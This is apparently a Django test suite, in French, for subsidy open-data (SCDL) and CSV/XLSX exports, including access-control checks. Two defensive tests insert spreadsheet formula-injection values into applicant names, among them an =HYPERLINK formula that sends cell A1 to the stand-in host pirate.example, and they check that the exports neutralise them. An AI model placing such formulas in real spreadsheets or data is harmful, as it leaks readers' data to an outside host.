import csv
import io
import re
from datetime import date
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook
from stdnum.fr import siret

from financements.services.exports import COLONNES_SCDL
from tests.financements.fabrique import dossiers_decides

DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
PERIODE = re.compile(r"^[0-9]{4}\-[0-9]{2}\-[0-9]{2}(\/[0-9]{4}\-[0-9]{2}\-[0-9]{2})?$")
MONTANT = re.compile(r"^\d+(\.\d+)?$")
NATURES = {
    "aide en numéraire",
    "aide en nature",
    "aide en numéraire;aide en nature",
    "aide en nature;aide en numéraire",
}


def _contenu(reponse) -> str:
    return b"".join(reponse.streaming_content).decode("utf-8")


def test_it_exports_granted_subsidies_in_the_scdl_format_for_anyone(client, appel, epci, prefecture):
    epci.siret = "24350013900189"
    epci.save()
    dossiers = dossiers_decides(appel, [epci, prefecture], 3, montant=Decimal("12500.50"))
    dossiers[0].structure.rna = "W35X000001"  # un RNA hors du motif SCDL (lettres) n'est pas publié
    dossiers[0].structure.save()
    dossiers_decides(appel, [prefecture], 2)  # pas de la métropole
    reponse = client.get(reverse("financements:scdl", args=[epci.pk]))
    assert reponse.status_code == 200
    assert reponse.streaming
    assert reponse["Content-Type"] == "text/csv; charset=utf-8"
    lignes = list(csv.reader(io.StringIO(_contenu(reponse))))
    assert lignes[0] == COLONNES_SCDL
    assert ",".join(lignes[0]) == (
        "nomAttribuant,idAttribuant,dateConvention,referenceDecision,nomBeneficiaire,idBeneficiaire,rnaBeneficiaire,"
        "objet,montant,nature,conditionsVersement,datesPeriodeVersement,idRAE,notificationUE,pourcentageSubvention,"
        "dispositifAide"
    )
    assert len(lignes) == 4
    for ligne in lignes[1:]:
        v = dict(zip(COLONNES_SCDL, ligne, strict=True))
        assert v["nomAttribuant"] == "Rennes Métropole"
        assert re.fullmatch(r"\d{14}", v["idAttribuant"]) and siret.is_valid(v["idAttribuant"])
        assert DATE.match(v["dateConvention"]) and date.fromisoformat(v["dateConvention"])
        assert v["referenceDecision"]
        assert v["nomBeneficiaire"].startswith("Association")
        assert siret.is_valid(v["idBeneficiaire"])
        assert v["rnaBeneficiaire"] == "" or re.fullmatch(r"W\d{9}", v["rnaBeneficiaire"])
        assert 0 < len(v["objet"]) < 256
        assert MONTANT.match(v["montant"]) and Decimal(v["montant"]) == Decimal("12500.50")
        assert v["nature"] in NATURES
        assert v["conditionsVersement"] in ("unique", "échelonné", "autre")
        assert PERIODE.match(v["datesPeriodeVersement"]), v["datesPeriodeVersement"]
        assert len(v["idRAE"]) < 5
        assert v["notificationUE"] in ("oui", "non")
        assert 0.01 <= float(v["pourcentageSubvention"]) <= 1
        assert v["dispositifAide"] == "Appel à projets 2027"
    assert sorted(ligne[6] for ligne in lignes[1:]).count("") == 1


def test_it_leaves_refusals_and_undecided_dossiers_out_of_open_data(client, appel, depose, epci, agent):
    from financements.services import instruction

    instruction.prendre_en_instruction(depose, agent)
    instruction.decider(depose, agent, epci, "0", motif="Hors priorités")
    contenu = _contenu(client.get(reverse("financements:scdl", args=[epci.pk])))
    assert contenu.strip().count("\n") == 0  # l'en-tête seul


def test_it_refuses_scdl_for_a_structure(client, structure):
    assert client.get(reverse("financements:scdl", args=[structure.organisation.pk])).status_code == 404


def test_it_exports_the_current_filter_as_csv_and_xlsx(client, appel, agent, prefecture):
    dossiers_decides(appel, [prefecture], 3)
    dossiers_decides(appel, [prefecture], 1, montant=Decimal("30000"), prefixe="Régie")
    client.force_login(agent)
    reponse = client.get(reverse("financements:export_csv"), {"porteur": "régie"})
    lignes = list(csv.reader(io.StringIO(_contenu(reponse))))
    assert len(lignes) == 2
    assert lignes[1][2].startswith("Régie")
    assert lignes[1][8] == "30000.00"
    assert lignes[1][10] == "oui"  # convention obligatoire
    reponse = client.get(reverse("financements:export_xlsx"))
    feuille = load_workbook(io.BytesIO(reponse.content)).active
    rangees = list(feuille.iter_rows(values_only=True))
    assert rangees[0][0] == "Référence"
    assert len(rangees) == 5


def test_it_forbids_the_exports_to_structures(client, membre_structure):
    client.force_login(membre_structure)
    assert client.get(reverse("financements:export_csv")).status_code == 403
    assert client.get(reverse("financements:export_xlsx")).status_code == 403


def test_it_links_each_funder_open_data_from_the_call_page(client, appel, epci):
    page = client.get(reverse("financements:appel", args=[appel.pk])).content.decode()
    assert reverse("financements:scdl", args=[epci.pk]) in page


FORMULE = '=HYPERLINK("https://pirate.example/?"&A1,"Cliquez")'


def test_the_board_exports_never_turn_a_name_into_a_formula(client, appel, agent, prefecture):
    (dossier,) = dossiers_decides(appel, [prefecture], 1, prefixe=FORMULE)
    dossier.titre = "-1+2"
    dossier.save()
    client.force_login(agent)
    lignes = list(csv.reader(io.StringIO(_contenu(client.get(reverse("financements:export_csv"))), newline="")))
    assert lignes[1][1:3] == ["'-1+2", f"'{FORMULE} {dossier.structure.raison_sociale.split()[-1]}"]
    assert lignes[1][8] == "12000.00"
    reponse = client.get(reverse("financements:export_xlsx"))
    cellules = next(load_workbook(io.BytesIO(reponse.content)).active.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in cellules[1:3]] == [
        ("-1+2", "s"),
        (dossier.structure.raison_sociale, "s"),
    ]
    assert (cellules[8].value, cellules[8].data_type) == (12000, "n")


def test_open_data_never_turns_a_name_into_a_formula(client, appel, epci):
    (dossier,) = dossiers_decides(appel, [epci], 1, prefixe="@SOMME(A1)", montant=Decimal("12500.50"))
    dossier.titre = "+cmd"
    dossier.save()
    lignes = list(csv.reader(io.StringIO(_contenu(client.get(reverse("financements:scdl", args=[epci.pk]))))))
    valeurs = dict(zip(COLONNES_SCDL, lignes[1], strict=True))
    assert valeurs["nomBeneficiaire"].startswith("'@SOMME(A1)")
    assert valeurs["objet"] == "'+cmd"
    assert valeurs["montant"] == "12500.50"
    assert valeurs["pourcentageSubvention"] == "1.00"
